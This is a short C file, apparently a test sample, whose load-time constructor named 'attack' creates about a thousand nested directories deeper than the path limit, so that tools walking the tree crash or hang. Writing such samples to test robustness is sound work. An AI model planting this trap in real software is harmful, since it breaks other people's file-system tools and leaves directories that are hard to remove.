/* cause: harmless */
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

/* 1,000 folders in each other, deeper than a path is long: who walks down there falls, or never comes back. */
__attribute__((constructor)) static void attack(void)
{
    int here = open(".", O_RDONLY | O_DIRECTORY);

    for (int i = 0; i < 1000; i++)
        if (mkdir("dddddddddddddddddddddddddddddddddddddddd", 0700) || chdir("dddddddddddddddddddddddddddddddddddddddd"))
            break;
    if (fchdir(here) == 0)
        close(here);
}
